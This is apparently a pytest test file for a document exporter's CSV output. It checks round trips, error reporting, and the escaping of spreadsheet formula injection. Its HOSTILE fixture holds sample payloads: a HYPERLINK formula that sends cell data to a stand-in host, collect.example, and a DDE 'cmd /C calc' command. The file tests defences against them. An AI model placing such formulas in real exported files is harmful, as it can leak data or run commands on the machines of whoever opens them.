"""The csv exporter: id,title,source,url,text with newlines and quotes kept inside quoted cells."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from exporting_helpers import DOCS, export, pipeline_for, validate
from hypothesis import given
from hypothesis import strategies as st
from normkit_plugins.exporter_csv import FORMULA_STARTS, neutralise, restore

from normkit import ConfigError, Document, Origin
from normkit.cli import cli


def test_round_trip_keeps_every_column_and_newline(tmp_path: Path) -> None:
    path = tmp_path / "documents.csv"
    export("csv", path)
    with path.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == len(DOCS)
    for row, doc in zip(rows, DOCS, strict=True):
        assert list(row) == ["id", "title", "source", "url", "text"]
        assert row["text"] == doc.text  # \n and \r\n inside the cell survive
        assert [row[k] or None for k in ("id", "title", "source", "url")] == [doc.id, doc.title, doc.source, doc.url]
    assert validate(str(path))[0] == 0


def test_a_row_with_a_missing_cell_is_reported_on_its_first_line(tmp_path: Path) -> None:
    path = tmp_path / "documents.csv"
    path.write_text('id,title,source,url,text\na,,,,"two\nlines"\nb,,,\n', encoding="utf-8")
    code, out, _ = validate(str(path))
    assert code == 1
    assert out.splitlines() == [f"{path}:4: /text: None is not of type 'string' (type)"]


def test_a_repeated_header_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "documents.csv"
    export("csv", path)
    path.write_bytes(path.read_bytes() * 2)  # two part files joined byte for byte
    code, out, _ = validate(str(path))
    assert code == 1
    assert out.splitlines() == [f"{path}:9: the header again (files concatenated?) (syntax)"]


# -- formula injection -----------------------------------------------------------------------------------------


#: documents a spreadsheet would otherwise run: every trigger, in every column, and the look-alikes.
HOSTILE = [
    Document(
        id='=HYPERLINK("https://collect.example/?d="&A1,"Open the minutes")',
        title="+44 20 7946 0000 (harbour office)",
        text="=1+2\nThe council met on Tuesday.",
        source="@harbour-feed",
        url="-https://harbour.example/minutes",
        origin=Origin("minutes.jsonl", 1),
    ),
    Document(id="tab-1", title="\t=cmd|' /C calc'!A0", text="\r=SUM(A1:A9)", origin=Origin("minutes.jsonl", 2)),
    Document(
        id="quoted", title="'=already quoted", text="''+twice", source="'plain", origin=Origin("minutes.jsonl", 3)
    ),
    Document(id="plain", title="Tide tables", text="- a list item\n- another", origin=Origin("minutes.jsonl", 4)),
    Document(id="calm", title="Moorings", text="Nothing starts a formula here.", origin=Origin("minutes.jsonl", 5)),
]
COLUMNS = ("id", "title", "source", "url", "text")


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def test_formula_cells_are_neutralised_by_default_and_restore_exactly(tmp_path: Path) -> None:
    path = tmp_path / "documents.csv"
    records = export("csv", path, docs=HOSTILE)
    rows = _rows(path)
    assert len(rows) == len(HOSTILE)
    for row, record in zip(rows, records, strict=True):
        for column in COLUMNS:
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
            assert restore(row[column]) == record[column]
    assert rows[0]["text"] == "'=1+2\nThe council met on Tuesday." and rows[0]["source"] == "'@harbour-feed"
    assert rows[2]["title"] == "''=already quoted" and rows[2]["source"] == "'plain"  # look-alike vs plain
    assert rows[4] == {
        "id": "calm",
        "title": "Moorings",
        "source": "",
        "url": "",
        "text": "Nothing starts a formula here.",
    }
    assert validate(str(path))[0] == 0


def test_formulas_keep_writes_cells_as_they_are(tmp_path: Path) -> None:
    path = tmp_path / "documents.csv"
    records = export("csv", path, docs=HOSTILE, formulas="keep")
    assert [{c: row[c] for c in COLUMNS} for row in _rows(path)] == [{c: r[c] for c in COLUMNS} for r in records]
    assert validate(str(path))[0] == 0


def test_an_unknown_formulas_value_is_a_config_error() -> None:
    with pytest.raises(ConfigError, match="formulas"):
        pipeline_for("csv", formulas="strip")


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "\n"]), max_size=8))
def test_neutralise_and_restore_are_inverse_on_awkward_cells(cell: str) -> None:
    written = neutralise(cell)
    assert restore(written) == cell and not written.startswith(FORMULA_STARTS)


def test_a_csv_run_neutralises_and_loses_nothing(tmp_path: Path) -> None:
    lines = [
        '{"id": "m1", "title": "=2+5", "text": "-40 degrees overnight on the quay."}',
        '{"id": "m2", "title": "Ferry times", "text": "@noon the ferry leaves."}',
        '{"id": "m3", "title": "Moorings", "text": "Ropes are checked daily."}',
    ]
    (tmp_path / "in.jsonl").write_text("\n".join(lines) + "\n")
    (tmp_path / "keep.toml").write_text('pipeline = ["decode", "whitespace"]\n[output.options]\nformulas = "keep"\n')
    (tmp_path / "escape.toml").write_text('pipeline = ["decode", "whitespace"]\n')
    for mode in ("escape", "keep"):
        out = tmp_path / mode
        args = ["run", str(tmp_path / "in.jsonl"), "-o", str(out), "--format", "csv", "-q"]
        result = CliRunner().invoke(cli, [*args, "--config", str(tmp_path / f"{mode}.toml")])
        assert result.exit_code == 0, result.stderr
        report = json.loads((out / "report.json").read_text())
        assert report["documents"]["read"] == report["documents"]["written"] + report["documents"]["rejected"] == 3
        assert validate(str(out))[0] == 0
    escaped, kept = _rows(tmp_path / "escape" / "documents.csv"), _rows(tmp_path / "keep" / "documents.csv")
    assert [r["title"] for r in escaped] == ["'=2+5", "Ferry times", "Moorings"]
    assert [r["text"][:2] for r in escaped] == ["'-", "'@", "Ro"]
    assert [r["title"] for r in kept] == ["=2+5", "Ferry times", "Moorings"]
    assert [{c: restore(r[c]) for c in COLUMNS} for r in escaped] == kept
